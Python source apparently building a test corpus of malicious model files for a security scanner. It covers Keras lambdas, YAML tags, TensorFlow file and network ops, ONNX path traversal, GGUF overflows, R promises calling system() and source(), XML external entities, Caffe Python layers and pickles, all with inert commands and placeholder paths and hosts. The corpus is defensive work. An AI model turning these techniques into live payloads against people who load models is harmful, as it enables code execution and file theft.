"""Models of Keras, TensorFlow, ONNX, llama.cpp and R that act when they are loaded or used."""

import base64
import bz2
import gzip
import io
import json
import marshal
import struct

from blind2_kit import AWAY, ECHO, URL, Link, as_json, floats, gguf, gguf_text, pb, pkl, system
from blind2_kit import torch_zip, zipped

CODE = compile("lambda x: __import__('os').system('echo inert') or x", "<l>", "eval").co_consts[0]
MARSHALLED = base64.encodebytes(marshal.dumps(CODE)).decode()
META = as_json({"keras_version": "3.3.3", "date_saved": "2024-05-01@09:30:00"})
SECRET = "/nonexistent/secret"


def fill(corpus):
    for make in (keras, hdf5, tensorflow, onnx_models, gguf_models, r_models, other):
        for form, technique, files in make(corpus.random):
            corpus.bad(form, technique, files)


def layer(kind, config, module="keras.layers", **more):
    return {"module": module, "class_name": kind, "config": config, "registered_name": None, **more}


def sequential(*layers):
    first = layer("InputLayer", {"batch_shape": [None, 8], "dtype": "float32", "name": "in"})
    config = {"name": "sequential", "trainable": True, "layers": [first, *layers]}
    return layer("Sequential", config, "keras", build_config={"input_shape": [None, 8]})


def dense(**config):
    return layer("Dense", {"name": "dense", "units": 4, "activation": "relu", **config})


def keras_zip(model, *more):
    weights = h5()
    entries = [("metadata.json", META), ("config.json", json.dumps(model))]
    return zipped([*entries, *more, ("model.weights.h5", weights)])


LAMBDA = {"class_name": "__lambda__", "config": {"code": MARSHALLED, "defaults": None}}
LAYER = layer("Lambda", {"name": "scale", "function": LAMBDA, "arguments": {}})
OLD = layer(
    "Lambda", {"name": "l", "function": [MARSHALLED, None, None], "function_type": "lambda"}
)


def function(module, name):
    return {"module": module, "class_name": "function", "config": name, "registered_name": name}


def keras(_):
    def made(technique, *layers, more=(), name="model.keras"):
        return "keras", technique, (name, keras_zip(sequential(*layers), *more))

    yield made("lambda layer", dense(), LAYER)
    yield made("lambda of the old form", OLD)
    yield made("lambda in TimeDistributed", layer("TimeDistributed", {"layer": LAYER}))
    yield made("lambda in a model in a model", sequential(dense(), sequential(LAYER)))
    yield made("lambda as an activation", dense(activation=LAMBDA))
    yield made("lambda as an initializer", dense(kernel_initializer=LAMBDA))
    yield made("lambda as a constraint", dense(kernel_constraint={"fn": LAMBDA}))
    yield made(
        "lambda as mask",
        layer("Lambda", {"function": function("keras.ops", "abs"), "mask": LAMBDA}),
    )
    yield made("function of os", dense(activation=function("os", "system")))
    yield made("class of subprocess", layer("Popen", {"args": ECHO, "shell": True}, "subprocess"))
    yield made("exec of builtins", layer("exec", {"source": "import os"}, "builtins"))
    got = function("keras.utils", "get_file")
    call = layer("Lambda", {"function": got, "arguments": {"origin": URL, "fname": AWAY}})
    yield made("keras.utils.get_file", call)
    load = layer("Lambda", {"function": function("keras.models", "load_model")})
    yield made("keras.models.load_model", load)
    numpy_load = layer(
        "Lambda", {"function": function("numpy", "load"), "arguments": {"allow_pickle": True}}
    )
    yield made("numpy.load as the function", numpy_load)
    yield made("StringLookup reads a file", layer("StringLookup", {"vocabulary": SECRET}))
    yield made("TextVectorization reads a URL", layer("TextVectorization", {"vocabulary": URL}))
    torch = base64.b64encode(torch_zip(system())).decode()
    wrapped = {"module": {"class_name": "__bytes__", "config": torch}, "name": "torch"}
    yield made("TorchModuleWrapper", layer("TorchModuleWrapper", wrapped))
    twice = ("config.json", json.dumps(sequential(LAYER)))
    yield made("second config.json", dense(), more=[twice])
    yield made("lambda, named zip", LAYER, name="model.zip")
    yield made("lambda, named h5", LAYER, name="model.h5")
    compiled = sequential(dense())
    compiled["compile_config"] = {"optimizer": "adam", "loss": LAMBDA, "metrics": ["mae"]}
    yield "keras", "lambda as the loss", ("model.keras", keras_zip(compiled))
    nodes = sequential(dense())
    nodes["config"]["layers"][1]["inbound_nodes"] = [{"args": [LAMBDA], "kwargs": {}}]
    yield "keras", "lambda among call arguments", ("model.keras", keras_zip(nodes))
    yield "keras json", "lambda in an architecture", ("model.json", json.dumps(sequential(OLD)))
    text = "class_name: Sequential\nconfig: !!python/object/apply:os.system ['echo inert']\n"
    yield "keras yaml", "tag in an architecture", ("model.yaml", text)


def h5(attributes=(), write=None, block=0):
    import h5py

    out = io.BytesIO()
    with h5py.File(out, "w", userblock_size=block) as file:
        for key, item in attributes:
            file.attrs[key] = item
        weights = file.create_group("model_weights")
        weights.create_dataset("dense/kernel:0", data=[[0.5, 0.25]], dtype="f4")
        if write:
            write(file)
    return out.getvalue()


def hdf5(_):
    import h5py
    import numpy as np

    config = json.dumps(sequential(dense(), OLD))
    version = ("keras_version", "2.11.0")
    yield "keras h5", "lambda", ("model.h5", h5([version, ("model_config", config)]))
    item = [version, ("model_config", np.bytes_(config))]
    yield "keras h5", "lambda in a fixed string", ("model.hdf5", h5(item))
    yield "keras h5", "lambda behind a user block", ("model.h5", h5(item, block=512))
    yield "keras h5", "lambda, no extension", ("best_model", h5(item))
    training = json.dumps({"loss": LAMBDA, "optimizer_config": {"class_name": "Adam"}})
    plain = ("model_config", json.dumps(sequential(dense())))
    data = h5([version, plain, ("training_config", training)])
    yield "keras h5", "lambda as the loss", ("model.h5", data)
    deep = json.dumps(sequential(layer("Bidirectional", {"layer": sequential(OLD)})))
    yield "keras h5", "lambda in a wrapper", ("model.h5", h5([version, ("model_config", deep)]))
    os_call = json.dumps(sequential(dense(activation=function("os", "system"))))
    yield "keras h5", "function of os", ("model.h5", h5([version, ("model_config", os_call)]))

    def link(file):
        file["model_weights/dense/bias:0"] = h5py.ExternalLink(SECRET, "/data")

    def external(file):
        file.create_dataset("secret", (16,), dtype="u1", external=[(SECRET, 0, 16)])

    yield "keras h5", "external link", ("model.weights.h5", h5([version], link))
    yield "keras h5", "external storage", ("model.weights.h5", h5([version], external))


def node(name, op, inputs=(), **attributes):
    out = pb(1, name) + pb(2, op) + b"".join(pb(3, each) for each in inputs)
    for key, item in attributes.items():
        kind = pb(3, item) if isinstance(item, int) else pb(2, item)
        out += pb(5, pb(1, key) + pb(2, kind))
    return out


def constant(name, item):
    tensor = pb(1, 7) + pb(2, b"") + pb(8, item)
    attr = pb(5, pb(1, "value") + pb(2, pb(8, tensor)))
    return pb(1, name) + pb(2, "Const") + attr + pb(5, pb(1, "dtype") + pb(2, pb(6, 7)))


def saved_model(nodes, inside=False):
    if inside:
        body = pb(1, pb(1, "__inference_serve_1")) + b"".join(pb(3, each) for each in nodes)
        graph = pb(1, node("call", "StatefulPartitionedCall")) + pb(2, pb(1, body))
    else:
        graph = b"".join(pb(1, each) for each in nodes)
    meta = pb(1, pb(4, "serve") + pb(5, "2.15.0")) + pb(2, graph + pb(4, pb(1, 1645)))
    return pb(1, 1) + pb(2, meta)


def tensorflow(_):
    ops = [("WriteFile", [AWAY, "text"]), ("ReadFile", [SECRET]), ("CacheDatasetV2", [AWAY])]
    ops += [("SaveDatasetV2", [AWAY]), ("TextLineDataset", [SECRET])]
    ops += [("CreateSummaryFileWriter", [AWAY]), ("LoadDataset", [AWAY])]
    ops += [("DataServiceDataset", ["grpc://example.invalid"]), ("TFRecordDataset", [SECRET])]
    ops += [("PrintV2", ["text"]), ("DebugIdentityV2", ["text"]), ("DebugIdentity", ["text"])]
    extra = {"PrintV2": {"output_stream": "file://" + AWAY}}
    extra |= {"DebugIdentity": {"debug_urls": "grpc://example.invalid:6064"}}
    extra |= {"DebugIdentityV2": {"debug_urls": "file://" + AWAY}}
    for index, (op, inputs) in enumerate(ops):
        names = [f"c{at}" for at in range(len(inputs))]
        nodes = [constant(*pair) for pair in zip(names, inputs, strict=True)]
        if op in ("CacheDatasetV2", "SaveDatasetV2"):
            nodes += [node("range", "RangeDataset"), node("memory", "DummyMemoryCache")]
            names = ["range", *names, "memory"][: 3 if op.startswith("C") else 2]
        nodes.append(node("act", op, names, **extra.get(op, {})))
        data = saved_model(nodes, inside=index % 2 == 1)
        where = "function" if index % 2 else "graph"
        yield (
            "savedmodel",
            f"{op} in its {where}",
            {"saved_model.pb": data, "variables/variables.index": b""},
        )
    nodes = pb(1, constant("p", AWAY)) + pb(1, node("w", "WriteFile", ["p", "p"]))
    yield "tensorflow", "WriteFile in a frozen graph", ("frozen_graph.pb", nodes)
    yield "tensorflow", "WriteFile in a metagraph", ("model.ckpt-100.meta", pb(2, nodes))
    text = 'node {\n  name: "w"\n  op: "WriteFile"\n  input: "p"\n  input: "q"\n}\n'
    yield "tensorflow", "WriteFile in a text graph", ("graph.pbtxt", text)


def onnx_models(_):
    import onnx
    from onnx import TensorProto, helper

    def outside(name, location):
        tensor = TensorProto(name=name, data_type=1, dims=[4], data_location=1)
        tensor.external_data.add(key="location", value=location)
        return tensor

    def made(nodes=(), initial=(), functions=(), sparse=()):
        info = [helper.make_tensor_value_info(name, 1, [4]) for name in "xy"]
        nodes = nodes or [helper.make_node("Add", ["x", "w"], ["y"])]
        graph = helper.make_graph(nodes, "g", info[:1], info[1:], list(initial))
        graph.sparse_initializer.extend(sparse)
        return helper.make_model(graph, functions=list(functions)).SerializeToString()

    places = ["../../../../nonexistent/secret", "/nonexistent/secret", "data/../../../secret"]
    places += ["..\\..\\nonexistent\\secret", "./a/./../..//../nonexistent/secret"]
    places += ["\\\\example.invalid\\share\\w.bin", "C:\\nonexistent\\secret"]
    for place in places:
        data = made(initial=[outside("w", place)])
        yield "onnx", f"external data at {place}", ("model.onnx", data)
    up = outside("v", places[0])
    one = helper.make_node("Constant", [], ["w"], value=up)
    yield "onnx", "external data in a constant", ("m.onnx", made([one]))
    branch = helper.make_graph([one], "b", [], [helper.make_tensor_value_info("w", 1, [4])])
    either = helper.make_node("If", ["x"], ["y"], then_branch=branch, else_branch=branch)
    yield "onnx", "external data in a branch", ("m.onnx", made([either]))
    body = helper.make_function("own", "F", [], ["w"], [one], [helper.make_opsetid("", 18)])
    used = helper.make_node("F", [], ["y"], domain="own")
    yield "onnx", "external data in a function", ("m.onnx", made([used], functions=[body]))
    sparse = onnx.SparseTensorProto(values=up, indices=outside("i", "i.bin"), dims=[8])
    yield "onnx", "external data in a sparse tensor", ("m.onnx", made(sparse=[sparse]))
    attributes = {"embed_mode": 0, "ep_cache_context": "../../nonexistent/engine.so"}
    context = helper.make_node("EPContext", ["x"], ["y"], domain="com.microsoft", **attributes)
    yield "onnx", "EPContext outside", ("m_ctx.onnx", made([context]))
    yield (
        "onnx",
        "external data is a link outside",
        {"model.onnx": made(initial=[outside("w", "w.bin")]), "w.bin": Link("/nonexistent/secret")},
    )


def gguf_models(rng):
    good = {"general.architecture": "llama", "general.name": "tiny", "llama.block_count": 1}
    data = gguf(good, [("a.weight", [8], 0, floats(rng, 8))])
    head = b"GGUF" + struct.pack("<I", 3)
    key = gguf_text("general.architecture") + struct.pack("<I", 8)
    top = (1 << 64) - 1
    yield "gguf", "key count overflows", ("m.gguf", head + struct.pack("<QQ", 1, top) + data[24:])
    yield (
        "gguf",
        "tensor count overflows",
        ("m.gguf", head + struct.pack("<QQ", top, 3) + data[24:]),
    )
    one = head + struct.pack("<QQ", 0, 1)
    yield "gguf", "text length overflows", ("m.gguf", one + key + struct.pack("<Q", top) + b"ab")
    array = one + gguf_text("t") + struct.pack("<IIQ", 9, 10, (1 << 61) + 1) + bytes(64)
    yield "gguf", "array length overflows", ("m.gguf", array)
    wide = gguf(good, [("a", [1 << 40, 1 << 40], 0, bytes(32))])
    yield "gguf", "tensor size overflows", ("m.gguf", wide)
    yield "gguf", "more dimensions than four", ("m.gguf", gguf(good, [("a", [1] * 9, 0, bytes(4))]))


def integer(number):
    return struct.pack(">i", number)


def characters(item):
    return integer(0x40009) + integer(len(item)) + item.encode()


def r_call(name, argument):
    string = integer(16) + integer(1) + characters(argument)
    return integer(6) + integer(1) + characters(name) + integer(2) + string + integer(254)


def r_models(_):
    head = b"X\n" + struct.pack(">iii", 2, 0x00040301, 0x00020300)
    promise = integer(0x405) + integer(253) + integer(252) + r_call("system", ECHO)
    closure = integer(0x403) + integer(253) + integer(254) + r_call("system", ECHO)
    yield "rds", "promise not yet evaluated", ("model.rds", gzip.compress(head + promise, mtime=0))
    yield "rds", "promise, bzip2", ("model.rds", bz2.compress(head + promise))
    yield "rds", "promise, not compressed", ("model.rds", head + promise)
    bound = integer(0x402) + integer(1) + characters("fit") + promise + integer(254)
    yield "rdata", "promise", ("fit.RData", gzip.compress(b"RDX2\n" + head + bound, mtime=0))
    yield (
        "rds",
        "function that runs a command",
        ("predict.rds", gzip.compress(head + closure, mtime=0)),
    )
    down = integer(0x405) + integer(253) + integer(252) + r_call("source", URL)
    yield "rds", "promise of source()", ("model.RDS", gzip.compress(head + down, mtime=0))


def other(_):
    entity = f'<?xml version="1.0"?>\n<!DOCTYPE PMML [<!ENTITY x SYSTEM "file://{SECRET}">]>\n'
    body = '<PMML version="4.4"><Header description="&x;"/></PMML>\n'
    yield "pmml", "external entity", ("model.pmml", entity + body)
    outward = f'<!DOCTYPE PMML [<!ENTITY % d SYSTEM "{URL}"> %d;]>\n'
    yield "pmml", "parameter entity", ("model.pmml", outward + body.replace("&x;", "a"))
    net = entity.replace("PMML", "net") + '<net name="n" version="11"><layers>&x;</layers></net>\n'
    yield "openvino", "external entity", ("model.xml", net)
    include = '<PMML xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" '
    yield "pmml", "XInclude", ("model.pmml", include + f'href="file://{SECRET}"/></PMML>\n')
    layer_text = 'layer {\n  name: "l"\n  type: "Python"\n  python_param {\n'
    yield (
        "caffe",
        "layer in Python that runs a command",
        {
            "deploy.prototxt": layer_text + '    module: "own_layer"\n    layer: "Own"\n  }\n}\n',
            "own_layer.py": "import os\n\nos.system('echo inert')\n",
        },
    )
    yield "paddle", "pickled parameters", ("model.pdparams", pkl(system(), 2))
    yield "flair", "pickle in a model", ("best-model.pt", torch_zip(system(), top="best-model"))
